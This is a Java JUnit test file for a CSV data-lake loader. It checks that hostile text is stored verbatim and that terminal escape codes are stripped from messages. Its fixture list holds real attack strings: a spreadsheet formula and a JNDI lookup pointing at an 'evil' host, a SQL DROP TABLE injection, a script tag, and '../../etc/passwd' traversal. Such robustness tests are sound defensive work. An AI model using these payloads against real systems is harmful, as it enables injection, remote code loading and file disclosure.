package org.denverlakehouse.load;

import static org.assertj.core.api.Assertions.assertThat;
import static org.denverlakehouse.load.AfterHostile.PUBLISHED;
import static org.denverlakehouse.load.AfterHostile.REFUSED;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.denverlakehouse.ledger.LoadRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Texts that mean something elsewhere, to a spreadsheet, a browser, a database or a terminal, are stored as they are and
/// mean nothing here (I10).
class HostileValuesTest {
  private static final List<String> TEXTS = List.of("=HYPERLINK(\"http://evil\",\"x\")", "+1+1", "-1+1", "@SUM(A1)",
      "'; DROP TABLE sightings; --", "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "{{7*7}}", "%s%n%x", "\\N",
      "null", "NULL", "NaN", "x\u0001\u0002\u001B[2Jx", "a\tb", "two\r\nlines", "two\nlines", "say \"hi\"", "\u202Eabc",
      "e\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "\uFFFD\uFFFF", "Ω≈ç√∫", "田中さん", "../../etc/passwd", "1e999999999",
      "0".repeat(5000),
      "9999-99-99", "x".repeat(100_000));

  @TempDir
  Path scratch = Path.of("");
  private AfterHostile after;

  @BeforeEach
  void openLake() throws IOException {
    after = new AfterHostile(scratch);
  }

  @Test
  void comeBackFromTheTableExactly() throws IOException {
    var rows = new Sightings().days("2016-03-01", "2016-03-10", 3, "plain");
    for (int i = 0; i < TEXTS.size(); i++) {
      rows.row("2016-03-05 11:00:00", "t" + i, quoted(TEXTS.get(i)), quoted(TEXTS.get(i)));
    }

    LoadRecord load = after.drop("sightings.csv", rows.csv(), PUBLISHED);

    assertThat(load.rowsRejected()).isZero();
    Map<Object, Object> kinds = new LinkedHashMap<>();
    for (Map<String, ?> row : after.lake.rows(Sightings.TABLE)) {
      kinds.put(String.valueOf(row.get("ticket")), String.valueOf(row.get("kind")));
      assertThat(row.get("extra")).isNull();
    }
    for (int i = 0; i < TEXTS.size(); i++) {
      assertThat(kinds).containsEntry("t" + i, TEXTS.get(i));
    }
  }

  @Test
  void areKeptAsNamesOfUnknownColumnsToo() throws IOException {
    var names = new ArrayList<>(TEXTS.stream().filter(text -> text.length() < 255).map(String::strip).toList());
    var text = new StringBuilder(Sightings.HEADER.strip());
    names.forEach(name -> text.append(',').append(quoted(name)));
    text.append("\n2016-03-01 12:00:00,odd,fox,park");
    for (int i = 0; i < names.size(); i++) {
      text.append(",v").append(i);
    }

    after.drop("sightings.csv", text + "\n", PUBLISHED, "Columns kept in extra: ");

    var expected = new LinkedHashMap<String, String>();
    for (int i = 0; i < names.size(); i++) {
      expected.put(names.get(i), "v" + i);
    }
    assertThat(after.lake.rows(Sightings.TABLE)).anyMatch(row -> expected.equals(row.get("extra")));
  }

  @Test
  void namesThatAreThereTwiceOrEmptyLoseNothing() throws IOException {
    after.drop("sightings.csv",
        Sightings.HEADER.strip() + ",Kind,Kind,,,\n2016-03-01 12:00:00,odd,fox,park,a,b,c,d,e\n",
        PUBLISHED, "1 row");

    assertThat(after.lake.rows(Sightings.TABLE))
        .anyMatch(row -> Map.of("Kind (2)", "a", "Kind (3)", "b", "", "c", "(2)",
            "d", "(3)", "e").equals(row.get("extra")));
  }

  @ParameterizedTest
  @ValueSource(ints = {256, 10_000, 1_000_000})
  void aNameThatRowsWouldCarryForeverIsRefused(int length) throws IOException {
    after.drop("sightings.csv",
        Sightings.HEADER.strip() + "," + "n".repeat(length) + "\n2016-03-01 12:00:00,t,fox,park,x\n", REFUSED,
        "The header in line 1 has a name of " + length + " characters (nnn", "255");
  }

  @Test
  void aHeaderThatSteersTerminalsIsShownWithoutItsSigns() throws IOException {
    after.drop("sightings.csv", "\u001BWh\u001B[2Jen,\u202Ekind\nx,y\n", REFUSED,
        "The header has: Wh\uFFFD[2Jen, \uFFFDkind");
  }

  private static String quoted(String text) {
    return '"' + text.replace("\"", "\"\"") + '"';
  }
}
